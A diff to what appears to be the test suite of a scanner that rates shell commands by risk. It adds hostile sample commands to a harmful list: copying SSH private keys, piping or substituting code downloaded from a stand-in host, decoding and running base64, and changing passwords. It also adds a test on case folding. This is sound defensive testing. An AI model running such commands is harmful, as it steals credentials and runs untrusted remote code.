@@ -54,6 +54,7 @@ HARMFUL = [
     # credentials
     ("credentials.private_key", "cat ~/.ssh/id_rsa"),
     ("credentials.private_key", 'tar cf k.tar "/home/bob/.ssh/id_ed25519"'),
+    ("credentials.private_key", "cp -f ~/.ssh/id_rsa /tmp"),
     ("credentials.cloud", "cat ~/.aws/credentials"),
     ("credentials.passwords", "cat /etc/shadow"),
     ("credentials.store", "cp ~/.kube/config /tmp/k"),
@@ -74,6 +75,8 @@ HARMFUL = [
     ("download.pipe", "curl -fsSL https://x.example/i.sh | sudo bash"),
     ("download.substitute", "bash <(wget -qO- https://x.example/i.sh)"),
     ("download.substitute", "true; `curl https://x.example/i`"),
+    ("download.substitute", "nohup $(curl https://x.example/i)"),
+    ("shell.decoded", "sh -c $(echo aWQ=|base64 -d)"),
     ("download.run", "wget https://x.example/a && chmod +x a && ./a"),
     ("download.code", "exec(requests.get('https://x.example').text)"),
     ("container.escape", "docker run --privileged -it alpine"),
@@ -96,6 +99,7 @@ HARMFUL = [
     ("privilege.root", "su"),
     ("privilege.setuid", "chmod u+s a.out"),
     ("account.change", "useradd eve"),
+    ("account.change", "echo secret | passwd"),
     # characters that can't be seen
     ("text.hidden", "echo \u202etxt.exe"),
     ("text.hidden", "r\u200bm -rf build"),
@@ -141,6 +145,7 @@ def test_a_harmful_command_is_high_and_its_finding_points_at_it(signature: str, 
         "curl -s https://api.example.com/items | jq .",
         "curl -X POST -d @body.json http://localhost:8000/items",
         "ssh -i ~/.ssh/id_rsa deploy@host uptime",
+        "cat /etc/passwd",
         "kubectl --kubeconfig ~/.kube/config get pods",
         "sed -i 's/a/b/' src/app.py",
         "chmod +x scripts/run.sh",
@@ -320,3 +325,10 @@ def test_every_signature_has_a_stable_id_of_its_own():
 
     assert len(set(ids)) == len(ids)
     assert all(one.startswith("signature.") for one in ids)
+
+
+def test_what_is_searched_for_in_lower_case_is_written_in_lower_case():
+    for one in load().signatures:
+        if one.fold:
+            patterns = [*one.patterns, one.command or ""]
+            assert patterns == [pattern.lower() for pattern in patterns], one.id
